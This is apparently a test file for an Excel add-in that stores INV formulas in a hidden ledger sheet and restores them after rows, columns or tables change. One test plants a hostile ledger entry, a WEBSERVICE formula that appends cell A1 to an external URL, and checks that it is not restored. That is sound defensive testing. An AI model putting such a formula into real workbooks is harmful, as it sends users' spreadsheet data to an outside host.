/**
 * The ledger in Excel. Frozen cells are found again after rows and columns were inserted or deleted (names follow their cells,
 * documented). Two people who freeze at once share no place. A hostile ledger restores nothing.
 */
import { columnName } from "../../../src/formula/columns";
import { isLedgerSheet } from "../../../src/workbook/frozen-formulas/ledger-sheets";
import type { Workbook } from "../../../src/workbook/port";
import type { NodeExcel } from "../../excel/excel-in-node";
import { moveLines } from "../../excel/move-lines";
import { enter } from "../../excel/sheet";
import { freezerOf } from "../frozen-formulas/freezer-of";
import { openWorkbook } from "./office-stage";

/** Stores, items, formulas in column C that differ by row, and a number in H of each row. */
function plan(rows: number) {
  const { excel, workbook } = openWorkbook("Plan");
  const sheet = excel.sheet("Plan");
  for (let row = 0; row < rows; row += 1) {
    enter(sheet, row, 0, 1000 + row);
    enter(sheet, row, 1, `'${10_000_000_000_000 + row}`);
    enter(sheet, row, 2, `=INV.QTY(A${row + 1},B${row + 1})-H${row + 1}`);
    enter(sheet, row, 7, 50 + row);
    sheet.shown.set(`C${row + 1}`, row * 10);
  }
  return { excel, workbook, sheet, freezer: freezerOf(workbook) };
}

function insert(excel: NodeExcel, what: "row" | "col", at: number): void {
  moveLines(excel, excel.sheet("Plan"), { what, at, by: 1 });
}

const formulas = async (workbook: Workbook): Promise<string[]> =>
  (await workbook.findFormulas(() => true)).map(
    ({ row, col, formula }) => `${columnName(col)}${row + 1} ${formula}`,
  );

it("after a row was inserted above, every formula thaws in its moved cell and refers to the same cells", async () => {
  const { excel, workbook, freezer } = plan(10);
  await freezer.freeze("workbook");
  expect(excel.names.every(({ visible }) => !visible)).toBe(true);
  insert(excel, "row", 0);
  expect(await freezer.thaw("workbook")).toEqual({ cells: 10, skipped: [] });
  expect(await formulas(workbook)).toEqual(
    Array.from({ length: 10 }, (_, row) => `C${row + 2} =INV.QTY(A${row + 2},B${row + 2})-H${row + 2}`),
  );
  expect(excel.names).toEqual([]);
});

it("after a column was inserted, formulas that would refer to other cells stay in the ledger, with a reason", async () => {
  const { excel, workbook, freezer } = plan(10);
  await freezer.freeze("workbook");
  insert(excel, "col", 5);
  expect(await freezer.thaw("workbook")).toMatchObject({
    cells: 0,
    skipped: [{ reason: "The cells that the formula refers to have changed", cells: { length: 10 } }],
  });
  expect(await formulas(workbook)).toEqual([]);
  expect((await freezer.frozen())?.cells).toBe(10);
});

it("restores only INV formulas, and none into a cell formatted as text", async () => {
  const { excel, workbook, freezer } = plan(3);
  await freezer.freeze("workbook");
  const ledger = excel.sheets.find(({ name }) => isLedgerSheet(name))!;
  enter(ledger, 2, 3, 'WEBSERVICE("https://example.com/"&A1)');
  await workbook.format({ sheet: "Plan", row: 1, col: 2, rows: 1, cols: 1 }, { numberFormat: "@" });
  const { cells, skipped: left } = await freezer.thaw("workbook");
  expect(cells).toBe(1);
  expect(left.map(({ reason }) => reason)).toEqual([
    "The list has no INV formula for this cell",
    "The cell is formatted as text",
  ]);
});

// Excel may do either (office-js issues 5909, 6745 and 2093).
describe.each([
  ["fills", true],
  ["leaves alone", false],
])("in a Table whose columns Excel %s", (_name, fillsTables) => {
  /** Headers and four rows. The last row contains a number that was never a formula. */
  async function table() {
    const { excel, workbook } = openWorkbook("Plan");
    const sheet = excel.sheet("Plan");
    excel.fillsTables = fillsTables;
    for (const [col, header] of ["Store", "GTIN", "Shelf"].entries()) enter(sheet, 0, col, header);
    for (let row = 1; row <= 4; row += 1) {
      enter(sheet, row, 0, 1000 + row);
      enter(sheet, row, 1, `'${10_000_000_000_000 + row}`);
      enter(sheet, row, 2, row === 4 ? 99 : `=INV.QTY(A${row + 1},B${row + 1})`);
    }
    await workbook.addTable({ sheet: "Plan", row: 0, col: 0, rows: 5, cols: 3 }, "Plan");
    const held = () => [1, 2, 3, 4].map((row) => sheet.cells.get(row)?.get(2));
    return { sheet, held, freezer: freezerOf(workbook) };
  }

  it("typed values stay, whether INV had frozen the cell or not", async () => {
    const { sheet, held, freezer } = await table();
    await freezer.freeze("workbook");
    enter(sheet, 2, 2, 77);
    const { skipped: left } = await freezer.thaw("workbook");
    expect(left).toMatchObject([{ reason: "The value was changed after freezing", cells: [{ row: 2 }] }]);
    expect(held()).toEqual(["=INV.QTY(A2,B2)", 77, "=INV.QTY(A4,B4)", 99]);
  });

  it("a formula unlike the others is restored, or kept with a reason", async () => {
    const { sheet, held, freezer } = await table();
    const own = '=INV.QTY(A3,B3,"BACKROOM")';
    enter(sheet, 2, 2, own);
    await freezer.freeze("workbook");
    await freezer.thaw("workbook");
    const kept = (await freezer.lines()).map(({ formula }) => formula);
    expect([...held(), ...kept]).toEqual(expect.arrayContaining(["=INV.QTY(A2,B2)", own, "=INV.QTY(A4,B4)"]));
    expect(held()[3]).toBe(99);
  });
});
